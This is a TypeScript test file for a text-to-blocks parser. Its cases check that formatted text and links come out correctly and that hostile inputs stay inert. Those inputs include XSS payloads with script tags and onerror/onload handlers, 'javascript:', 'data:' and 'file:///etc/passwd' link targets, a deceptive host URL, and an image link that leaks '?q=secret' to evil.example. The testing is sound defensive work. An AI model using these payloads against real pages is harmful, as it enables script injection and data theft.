import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type Block, type Inline, parseText } from './parse-text';

const text = (value: string): Inline => ({ kind: 'text', text: value });
const bold = (value: string): Inline => ({ kind: 'bold', text: value });
const link = (value: string, href: string): Inline => ({ kind: 'link', text: value, href });
const line = (...parts: Inline[]): Block[] => [{ kind: 'paragraph', lines: [parts] }];

describe('parseText', () => {
  const rows: [string, string, Block[]][] = [
    ['plain text', 'Hello.', line(text('Hello.'))],
    ['nothing', ' \n\n ', []],
    [
      'paragraphs and lines',
      'One\ntwo\n\nthree',
      [
        { kind: 'paragraph', lines: [[text('One')], [text('two')]] },
        { kind: 'paragraph', lines: [[text('three')]] },
      ],
    ],
    ['bold', 'On **Saturday, November 21**.', line(text('On '), bold('Saturday, November 21'), text('.'))],
    ['bold left open', 'a ** b', line(text('a ** b'))],
    [
      'a list after its sentence',
      'Choose:\n- one\n- **two**',
      [
        { kind: 'paragraph', lines: [[text('Choose:')]] },
        { kind: 'list', ordered: false, start: 1, items: [[text('one')], [bold('two')]] },
      ],
    ],
    ['a numbered list', '2. b\n3. c', [{ kind: 'list', ordered: true, start: 2, items: [[text('b')], [text('c')]] }]],
    ['a price is no list', '$12.00 is yours', line(text('$12.00 is yours'))],
    [
      'a bare address, its full stop outside',
      'See https://shop.example/a?b=1.',
      line(text('See '), link('https://shop.example/a?b=1', 'https://shop.example/a?b=1'), text('.')),
    ],
    ['a named link', '[Track it](https://carrier.example/1)', line(link('Track it', 'https://carrier.example/1'))],
    [
      'a link in brackets',
      '(http://a.example)',
      line(text('('), link('http://a.example', 'http://a.example/'), text(')')),
    ],
    // What must stay text.
    ['a script', '<script>alert(1)</script>', line(text('<script>alert(1)</script>'))],
    ['an element with a handler', '<img src=x onerror=alert(1)>', line(text('<img src=x onerror=alert(1)>'))],
    ['an SVG', '<svg/onload=alert(1)>', line(text('<svg/onload=alert(1)>'))],
    ['a script address', '[go](javascript:alert%281%29)', line(text('[go](javascript:alert%281%29)'))],
    ['one in capitals', '[go](JaVaScRiPt:alert`1`)', line(text('[go](JaVaScRiPt:alert`1`)'))],
    ['a data address', '[go](data:text/html,x)', line(text('[go](data:text/html,x)'))],
    ['a file', '[go](file:///etc/passwd)', line(text('[go](file:///etc/passwd)'))],
    ['a relative address', '[go](//evil.example)', line(text('[go](//evil.example)'))],
    [
      'an address with a false host before the at sign',
      'https://bank.example@evil.example/',
      line(text('https://bank.example@evil.example/')),
    ],
    [
      'a quote that would leave an attribute',
      'https://a.example/"onclick=x',
      line(link('https://a.example/', 'https://a.example/'), text('"onclick=x')),
    ],
    ['an image is its description', '![a cat](https://evil.example/?q=secret)', line(text('a cat'))],
    [
      'an image by reference',
      '![a][1]\n\n[1]: ftp://evil.example',
      [
        { kind: 'paragraph', lines: [[text('![a][1]')]] },
        { kind: 'paragraph', lines: [[text('[1]: ftp://evil.example')]] },
      ],
    ],
  ];
  it.each(rows)('%s', (_, given, expected) => {
    expect(parseText(given)).toEqual(expected);
  });

  it('links to nothing but the web, whatever is written', () => {
    const piece = fc.constantFrom(
      '[',
      ']',
      '(',
      ')',
      '!',
      '**',
      'https://',
      'javascript:',
      'data:',
      '@',
      'a.example',
      '\n',
      ' ',
      '- ',
      '<',
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(piece, fc.string()), { maxLength: 30 }), (pieces) => {
        for (const href of linksOf(parseText(pieces.join('')))) expect(href).toMatch(/^https?:\/\/[^@/]+(\/|$)/);
      }),
      { numRuns: 2_000 },
    );
  });

  it.each(['['.repeat(50_000), '**'.repeat(50_000), '![a]('.repeat(20_000), 'https://'.repeat(10_000)])(
    'reads a long hostile text at once',
    (hostile) => {
      const began = performance.now();
      parseText(hostile);
      expect(performance.now() - began).toBeLessThan(1_000);
    },
  );
});

function linksOf(blocks: Block[]): string[] {
  return blocks
    .flatMap((block) => (block.kind === 'list' ? block.items : block.lines))
    .flat()
    .flatMap((part) => (part.kind === 'link' ? [part.href] : []));
}
